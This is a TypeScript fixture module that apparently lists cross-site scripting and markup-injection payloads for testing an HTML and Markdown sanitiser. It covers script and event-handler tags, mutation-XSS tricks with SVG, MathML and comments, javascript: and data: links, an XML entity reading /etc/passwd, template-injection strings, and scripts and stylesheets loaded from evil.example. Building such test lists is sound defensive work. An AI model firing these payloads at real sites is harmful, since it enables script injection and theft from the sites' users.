/** A text that would run, or lead somewhere it may not, where somebody took it for markup. */
export interface Payload {
  name: string;
  text: string;
}

const list = (entries: Record<string, string>): Payload[] =>
  Object.entries(entries).map(([name, text]) => ({ name, text }));

const RUN = 'alert(1)';

/** Elements and handlers. */
const TAGS = list({
  'a script': `<script>${RUN}</script>`,
  'a script of elsewhere': '<script src=//evil.example/x.js></script>',
  'a script in capitals': `<ScRiPt >${RUN}</sCrIpT>`,
  'a script without an end': `<script>${RUN}//`,
  'a script within a script': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'a script after a null': `<\u0000script>${RUN}</script>`,
  'the end of a script': `</script><script>${RUN}</script>`,
  'the end of a title': `</title><script>${RUN}</script>`,
  'the end of a text area': `</textarea><img src=x onerror=${RUN}>`,
  'the end of a style': `</style><img src=x onerror=${RUN}>`,
  'a picture that fails': `<img src=x onerror=${RUN}>`,
  'a picture without blanks': `<img/src=x/onerror=${RUN}>`,
  'a picture with quotes in quotes': `<img src="x\` \`<script>${RUN}</script>"\` \`>`,
  'a handler with a line break': `<img src=x onerror\n=\n${RUN}>`,
  'a handler after a slash': `<svg/onload=${RUN}>`,
  'a body': `<body onload=${RUN}>`,
  'an input that takes the focus': `<input autofocus onfocus=${RUN}>`,
  'details that are open': `<details open ontoggle=${RUN}>`,
  'a marquee': `<marquee onstart=${RUN}>`,
  'a video source': `<video><source onerror=${RUN}></video>`,
  'an animation': `<style>@keyframes x{}</style><b style="animation:x" onanimationstart=${RUN}>`,
  'a pointer': `<b onpointerover=${RUN} style=position:fixed;inset:0>x</b>`,
  'an element of its own': `<x-y onclick=${RUN} tabindex=1 id=x>`,
  'a frame with a document': `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  'a frame with an encoded document': '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  'a frame by an address': `<iframe src="javascript:${RUN}">`,
  'an object': `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
  'an embedded document': `<embed src="javascript:${RUN}">`,
  'a form': `<form action="javascript:${RUN}"><button>x`,
  'a button with its own action': `<form><button formaction="javascript:${RUN}">x`,
  'a base': '<base href="//evil.example/">',
  'a refresh': `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  'a style sheet': '<link rel=stylesheet href=//evil.example/x.css>',
  'an expression': `<div style="width:expression(${RUN})">`,
  'a style that loads': '<div style="background:url(javascript:alert(1))">',
  'an import of styles': "<style>@import'//evil.example/x.css';</style>",
});

/** Other namespaces, and what parsers read differently the second time. */
const NAMESPACES = list({
  'an svg': `<svg><script>${RUN}</script></svg>`,
  'an svg with an encoded script': '<svg><script>&#97;lert(1)</script></svg>',
  'an svg link': `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  'an svg animation': `<svg><animate attributeName=href values="javascript:${RUN}" /><a id=x>`,
  'an svg use': '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  'a foreign object': `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>">`,
  'math with a link': `<math><mtext><a href="javascript:${RUN}">x</a></mtext></math>`,
  'math and a style': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  'an svg and a style': `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  'a form in a form': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  'a noscript': `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  'a template': `<template><img src=x onerror=${RUN}></template>`,
  'a noembed': `<noembed><img title="</noembed><img src=x onerror=${RUN}>">`,
  'a comment that ends early': `<!--><img src=x onerror=${RUN}>-->`,
  'a comment that ends by a bang': `<!-- --!><img src=x onerror=${RUN}> -->`,
  CDATA: `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`,
  'an instruction': `<?xml-stylesheet href="javascript:${RUN}"?>`,
  'a doctype with an entity': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  'signs of full width': '＜script＞alert(1)＜/script＞',
  'a script in UTF-7': '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  'signs that turn the direction': '\u202egnp.exe\u202c <b onclick=alert(1)>\u2066x',
  'a broken pair': `\ud83d<img src=x onerror=${RUN}>`,
  'an encoded script': '&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;',
  'a program of a template': '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= alert(1) %>',
});

/** Addresses that are no link, each as it stands; they are tried in Markdown, and as links of formatted texts. */
export const ADDRESSES: Payload[] = list({
  'javascript:': `javascript:${RUN}`,
  'javascript: in capitals': `JaVaScRiPt:${RUN}`,
  'javascript: after a blank': ` javascript:${RUN}`,
  'javascript: with a tab': `java\tscript:${RUN}`,
  'javascript: with a line break': `java\nscript:${RUN}`,
  'javascript: after a control sign': `\u0001javascript:${RUN}`,
  'javascript: with a null': `java\u0000script:${RUN}`,
  'javascript: with entities': '&#106;avascript&colon;alert(1)',
  'javascript: in percent signs': '%6aavascript:alert(1)',
  'javascript: that looks like https': 'javascript://https://a.example/%0aalert(1)',
  'data: with a page': 'data:text/html,<script>alert(1)</script>',
  'data: with a picture': 'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  vbscript: 'vbscript:msgbox(1)',
  'blob:': 'blob:https://portal.example/1',
  'file:': 'file:///etc/passwd',
  'view-source:': 'view-source:javascript:alert(1)',
  'another host without a scheme': '//evil.example/x',
  'another host by a backslash': '/\\evil.example/x',
  'a name before the host': 'https://portal.gov.my@evil.example/x',
  'plain http': 'http://evil.example/x',
});

/** Forms in which Markdown has links, pictures and HTML. */
const MARKDOWN = list({
  'a picture with a handler': '![x](x"onerror="alert(1))',
  'a picture of elsewhere': '![x](//evil.example/x.png)',
  'a link with a handler': '[x](https://a.example/"onmouseover="alert(1))',
  'a link with a title': `[x](https://a.example 'x" onclick="${RUN}')`,
  'an automatic link': `<javascript:${RUN}>`,
  'an automatic link in HTML': `<https://a.example/"><img src=x onerror=${RUN}>`,
  'a reference': `[x][y]\n\n[y]: javascript:${RUN}`,
  'a reference that defines itself': `[javascript:${RUN}]\n\n[javascript:${RUN}]: javascript:${RUN}`,
  'a link in a link': `[a [b](javascript:${RUN})](https://a.example)`,
  'a link whose words are HTML': `[<img src=x onerror=${RUN}>](https://a.example)`,
  'code that ends': `\`x\`<script>${RUN}</script>\``,
  'a fence that ends': `\`\`\`\n</code></pre><script>${RUN}</script>\n\`\`\``,
  'the language of a fence': `\`\`\`"><script>${RUN}</script>\nx\n\`\`\``,
  'a heading': `# <script>${RUN}</script>`,
  'HTML in bold': `**<img src=x onerror=${RUN}>**`,
  'a footnote': `x[^1]\n\n[^1]: <script>${RUN}</script>`,
  'a table': `|a|\n|-|\n|<img src=x onerror=${RUN}>|`,
});

/** All texts, addresses in the form of a Markdown link and of a picture. */
export const TEXTS: Payload[] = [
  ...TAGS,
  ...NAMESPACES,
  ...MARKDOWN,
  ...ADDRESSES.flatMap(({ name, text }) => [
    { name: `a link to ${name}`, text: `[x](${text})` },
    { name: `a picture of ${name}`, text: `![x](${text})` },
  ]),
];
